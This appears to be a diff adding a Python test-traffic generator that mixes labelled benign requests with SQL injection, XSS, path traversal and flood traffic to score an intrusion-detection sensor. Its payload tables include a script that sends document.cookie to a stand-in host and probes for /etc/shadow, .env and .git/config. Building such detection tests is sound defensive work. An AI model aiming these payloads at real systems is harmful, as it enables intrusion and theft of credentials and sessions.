@@ -0,0 +1,110 @@
+"""Labelled benign/attack traffic for measuring detection accuracy under load.
+
+Every request carries a unique ground-truth ID in the TRUTH_HEADER header, and its label
+is written to a CSV (LABEL_COLUMNS). The sensor logs its verdict per ID, and score.py
+joins the two. Attack kinds:
+
+    sqli       SQL injection in a query parameter or form body
+    xss        script injection in a query parameter or form body
+    traversal  path traversal and sensitive-file probes in the path or a parameter
+    flood      a burst of plain requests sent at once from one flood source identity
+
+Source identities are User-Agent strings, so the sensor's user-agent heavy-hitter
+tracking can attribute floods even when every request comes from the same address.
+"""
+import csv  # For the label log
+import itertools  # For request IDs and weighted choices
+import uuid  # For per-run ID prefixes
+from urllib.parse import quote, urlencode  # For injecting payloads into URLs and form bodies
+
+TRUTH_HEADER = "X-Traffic-Id"  # Must match TRUTH_HEADER of the sensor (SERVER/app.py)
+LABEL_COLUMNS = ["Id", "Phase", "Offered_Rps", "Label", "Kind", "Source"]
+BENIGN = "benign"
+ATTACK = "attack"
+ATTACKS = {  # Kind -> sample payloads
+    "sqli": ("' OR 1=1--", "1 UNION SELECT username, password FROM users", "1; SELECT SLEEP(5)", "admin'--",
+             "1' AND BENCHMARK(5000000,MD5(1))#", "' or '1'='1"),
+    "xss": ("<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
+            "<svg onload=alert(1)>", "\"><script>fetch('//evil.example/'+document.cookie)</script>"),
+    "traversal": ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fshadow",
+                  ".env", ".git/config", "....//....//etc/hosts"),
+}
+ATTACK_KINDS = (*ATTACKS, "flood")
+BENIGN_SOURCES = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)",
+                  "Mozilla/5.0 (X11; Linux x86_64)", "okhttp/4.12.0")
+ATTACK_SOURCES = ("sqlmap/1.8", "Mozilla/5.0 (compatible; Nikto/2.5)", "python-requests/2.31", "curl/8.5.0")
+FLOOD_SOURCE = "flood-bot/1.0"
+BENIGN_QUERIES = ("shoes", "red jacket", "order 1042", "weather", "python tutorial", "gift card")
+
+
+class LabelLog:
+    """Hands out ground-truth IDs and records one label row per request.
+
+    :param path: CSV file, truncated on open
+    """
+
+    def __init__(self, path):
+        self.path = path
+        self.prefix = uuid.uuid4().hex[:8]  # Keeps IDs of different runs apart
+        self.ids = itertools.count()
+        self.file = open(path, mode="w", newline="", buffering=1024 * 1024)
+        self.writer = csv.writer(self.file)
+        self.writer.writerow(LABEL_COLUMNS)
+
+    def record(self, phase, offered_rps, label, kind, source):
+        """Record one request's label and return its ground-truth ID."""
+        traffic_id = f"{self.prefix}-{next(self.ids)}"
+        self.writer.writerow([traffic_id, phase, offered_rps, label, kind, source])
+        return traffic_id
+
+    def close(self):
+        self.file.close()
+
+
+class TrafficMix:
+    """Turns a benign request into labelled benign or attack requests.
+
+    :param attack_ratio: Fraction of ticks that send attack traffic (0-1)
+    :param attacks: Attack kinds as {kind: weight}, a list or one kind (see ATTACK_KINDS)
+    :param flood_burst: Requests sent at once by a flood tick
+    :param sources: User agents of attack sources
+    :param flood_source: User agent of flood bursts
+    """
+
+    def __init__(self, attack_ratio=0.0, attacks=("sqli", "xss", "traversal"), flood_burst=20,
+                 sources=ATTACK_SOURCES, flood_source=FLOOD_SOURCE):
+        if isinstance(attacks, dict):
+            self.kinds, weights = list(attacks), [float(weight) for weight in attacks.values()]
+        else:
+            self.kinds = list(attacks) if isinstance(attacks, (list, tuple)) else [attacks]
+            weights = [1.0] * len(self.kinds)
+        unknown = set(self.kinds) - set(ATTACK_KINDS)
+        if unknown:
+            raise ValueError(f"Unknown attack kinds {sorted(unknown)}; expected {', '.join(ATTACK_KINDS)}")
+        self.kind_weights = list(itertools.accumulate(weights))
+        self.attack_ratio = float(attack_ratio)
+        self.flood_burst = int(flood_burst)
+        self.sources = list(sources)
+        self.flood_source = flood_source
+
+    def requests(self, rng, method, url, body):
+        """Return [(label, kind, source, method, url, body)] for one tick, from its benign request."""
+        if not self.kinds or rng.random() >= self.attack_ratio:
+            query = quote(rng.choice(BENIGN_QUERIES))
+            return [(BENIGN, BENIGN, rng.choice(BENIGN_SOURCES), method, f"{url}{separator(url)}q={query}", body)]
+        kind = rng.choices(self.kinds, cum_weights=self.kind_weights)[0]
+        if kind == "flood":
+            return [(ATTACK, kind, self.flood_source, method, url, body)] * self.flood_burst
+        payload = rng.choice(ATTACKS[kind])
+        source = rng.choice(self.sources)
+        if kind == "traversal" and rng.random() < 0.5:  # Probe in the path
+            return [(ATTACK, kind, source, "GET", f"{url.split('?')[0].rstrip('/')}/static/{payload}", b"")]
+        if rng.random() < 0.5:  # Inject into a query parameter
+            field = "file" if kind == "traversal" else "q"
+            return [(ATTACK, kind, source, "GET", f"{url}{separator(url)}{field}={quote(payload)}", b"")]
+        return [(ATTACK, kind, source, "POST", url, urlencode({"comment": payload, "submit": "1"}).encode())]
+
+
+def separator(url):
+    """Return the character that appends a parameter to `url`."""
+    return "&" if "?" in url else "?"